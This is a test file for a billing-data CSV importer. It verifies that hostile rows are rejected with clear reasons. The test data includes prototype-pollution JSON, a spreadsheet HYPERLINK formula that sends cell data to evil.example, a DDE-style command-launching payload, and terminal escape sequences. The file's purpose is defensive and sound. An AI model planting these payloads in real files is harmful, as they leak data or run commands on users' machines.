import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { topicNames, type BillingRecord } from '@costwatch/contracts';
import type { EventPublisher } from '@costwatch/kafka';
import { PublishRecordsUseCase } from '../../application/publish-records.use-case';
import { FocusCsvSource } from './focus-csv.source';

const HEADER = ['ChargePeriodStart', 'ChargePeriodEnd', 'BillingAccountId', 'SubAccountId', 'ServiceName', 'ChargeCategory', 'BillingCurrency', 'EffectiveCost', 'Tags'];
const quoted = (field: string): string => `"${field.replace(/"/g, '""')}"`;

interface Row {
  start?: string;
  account?: string;
  subAccount?: string;
  service?: string;
  category?: string;
  currency?: string;
  cost?: string;
  tags?: string;
}

/** One FOCUS line of a day in the collector's default time window; every field quoted. */
function line(row: Row): string {
  const start = row.start ?? '2026-12-01T00:00:00Z';
  const end = new Date(Date.parse(start) + 86_400_000).toISOString();
  return [start, end, row.account ?? '111122223333', row.subAccount ?? 'prod', row.service ?? 'Virtual Machine', row.category ?? 'Usage', row.currency ?? 'USD', row.cost ?? '10', row.tags ?? '']
    .map(quoted)
    .join(',');
}

const manyTags = JSON.stringify(Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`k${i}`, 'v'])));

/** Each hostile row, and the reason it must be refused with (by the source, or by the record policy at publication). */
const HOSTILE: ReadonlyArray<[string, Row, RegExp]> = [
  ['__proto__ in Tags', { service: 'S1', tags: '{"__proto__":{"polluted":"yes"},"team":"a"}' }, /^Tags holds the prototype-polluting key "__proto__" \(at __proto__\)$/],
  ['constructor.prototype in Tags', { service: 'S2', tags: '{"constructor":{"prototype":{"polluted":"yes"}}}' }, /^Tags holds the prototype-polluting key "constructor"/],
  ['__proto__ nested in a tag value', { service: 'S3', tags: '{"team":{"__proto__":{"polluted":"yes"}}}' }, /prototype-polluting key "__proto__" \(at team\.__proto__\)$/],
  ['absurdly long Tags', { service: 'S4', tags: JSON.stringify({ big: 'x'.repeat(200_000) }) }, /^Tags is 200010 characters long, more than \d+$/],
  ['101 tags', { service: 'S5', tags: manyTags }, /tags: 101 tags, more than the 100 a focus record may have/],
  ['absurdly long ServiceName', { service: 'x'.repeat(10_000) }, /^ServiceName is 10000 characters long, more than 256$/],
  ['absurdly long BillingAccountId', { account: '9'.repeat(300) }, /^BillingAccountId is 300 characters long, more than 256$/],
  ['formula ServiceName', { service: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' }, /^ServiceName "=HYPERLINK.*" starts like a spreadsheet formula/],
  ['formula SubAccountId', { subAccount: "@SUM(1+1)*cmd|' /C calc'!A0" }, /^SubAccountId ".*" starts like a spreadsheet formula/],
  ['formula BillingAccountId', { account: '+1+cmd' }, /^BillingAccountId "\+1\+cmd" starts like a spreadsheet formula/],
  ['terminal escape in ServiceName', { service: 'VM\u001b[2J' }, /^ServiceName ".*" contains the control character U\+001B$/],
  ['negative usage', { service: 'S6', cost: '-5.00' }, /^EffectiveCost -5\.00 is negative on a Usage row: only Credit and Adjustment rows and corrections/],
  ['negative tax in exponent form', { service: 'S7', category: 'Tax', cost: '-1E-2' }, /^EffectiveCost -1E-2 is negative on a Tax row/],
  ['cost "abc"', { service: 'S8', cost: 'abc' }, /^EffectiveCost: .*abc/],
  ['cost "NaN"', { service: 'S9', cost: 'NaN' }, /^EffectiveCost: .*NaN/],
  ['cost "Infinity"', { service: 'S10', cost: 'Infinity' }, /^EffectiveCost: .*Infinity/],
  ['cost "1,000.00"', { service: 'S11', cost: '1,000.00' }, /^EffectiveCost: .*1,000\.00/],
  ['cost "0x1F"', { service: 'S12', cost: '0x1F' }, /^EffectiveCost: .*0x1F/],
  ['cost "1e400"', { service: 'S13', cost: '1e400' }, /^EffectiveCost: /],
  ['currency XXX', { service: 'S14', currency: 'XXX' }, /^currency: "XXX" is not an ISO 4217 currency/],
  ['currency ZZZ', { service: 'S15', currency: 'ZZZ' }, /^currency: "ZZZ" is not an ISO 4217 currency/],
  ['lower-case currency', { service: 'S16', currency: 'usd' }, /currency: must be an ISO 4217 code/],
  ['year 2099', { service: 'S17', start: '2099-09-01T00:00:00Z' }, /^periodStart: starts \d+\.\d h after the record was collected/],
  ['year 9999', { service: 'S18', start: '9999-12-01T00:00:00Z' }, /^periodStart: starts \d+\.\d h after the record was collected/],
  ['year 1970', { service: 'S19', start: '1970-01-01T00:00:00Z' }, /periodStart: starts before 2000-01-01/],
];

/** A publisher that keeps what it is given: the records published and the dead letters with their headers. */
function recordingPublisher() {
  const published: BillingRecord[] = [];
  const deadLetters: Array<{ location: string; reason: string; raw: unknown }> = [];
  const publisher = {
    publish: (_topic: string, schema: { parse: (e: unknown) => { payload: BillingRecord } }, events: Array<{ event: unknown }>) =>
      Promise.resolve(void published.push(...events.map(({ event }) => schema.parse(event).payload))),
    publishRaw: (_topic: string, message: { value: Buffer; headers: Record<string, string> }) =>
      Promise.resolve(
        void deadLetters.push({ location: message.headers['x-dlq-location'] ?? '', reason: (message.headers['x-dlq-reason'] ?? '').replace(/^invalid: /, ''), raw: JSON.parse(message.value.toString()) as unknown }),
      ),
  } as unknown as EventPublisher;
  return { publisher, published, deadLetters };
}

describe('FOCUS import of hostile rows', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'focus-hostile-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const good: Row[] = [{ service: 'Good Usage', cost: '10.5', tags: '{"team":"sre"}' }, { service: 'Good Usage', category: 'Credit', cost: '-5' }, { service: 'Refunded', cost: '0' }];

  async function importFile() {
    const file = join(dir, 'hostile.csv');
    writeFileSync(file, [HEADER.join(','), ...good.map(line), ...HOSTILE.map(([, row]) => line(row))].join('\n'));
    const { publisher, published, deadLetters } = recordingPublisher();
    const summary = await new PublishRecordsUseCase(publisher, topicNames(''), 'test').publishAll('focus', new FocusCsvSource({ files: file }).collectAll());
    return { summary, published, deadLetters };
  }

  it('refuses each hostile row with a clear reason and publishes only the good ones', async () => {
    const { summary, published, deadLetters } = await importFile();

    expect(published.map((r) => [r.serviceId, r.amount]).sort()).toEqual([
      ['good-usage', '10.5'],
      ['good-usage:credit', '-5'],
      ['refunded', '0'],
    ]);
    expect(summary).toMatchObject({ published: 3, rejected: HOSTILE.length });
    for (const [index, [what, row, reason]] of HOSTILE.entries()) {
      // A row the source refuses is named by its line; a record the policy refuses, by its id.
      const byLine = deadLetters.find((d) => d.location === `line ${index + good.length + 2} of hostile.csv`);
      const byRecord = deadLetters.find((d) => d.location.startsWith('record ') && (d.raw as BillingRecord).serviceName === row.service);
      const letter = byLine ?? byRecord;
      if (letter === undefined || !reason.test(letter.reason)) throw new Error(`${what}: expected a dead letter matching ${String(reason)}, got ${JSON.stringify(letter ?? deadLetters.map((d) => d.reason))}`);
    }
  });

  it('publishes nothing hostile, and no prototype is polluted', async () => {
    const { published } = await importFile();

    for (const record of published) {
      for (const text of [record.domainId, record.projectId, record.serviceId, record.serviceName]) {
        expect(text).not.toMatch(/^\s*[=+\-@]/);
        // eslint-disable-next-line no-control-regex
        expect(text).not.toMatch(/[\u0000-\u001f]/);
      }
      expect(Object.keys(record.tags ?? {})).not.toEqual(expect.arrayContaining(['__proto__', 'constructor', 'prototype']));
      expect(Date.parse(record.periodStart)).toBeLessThan(Date.now() + 86_400_000);
      expect(record.currency).toBe('USD');
      if (record.chargeCategory !== 'Credit') expect(record.amount.startsWith('-')).toBe(false);
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
  });
});
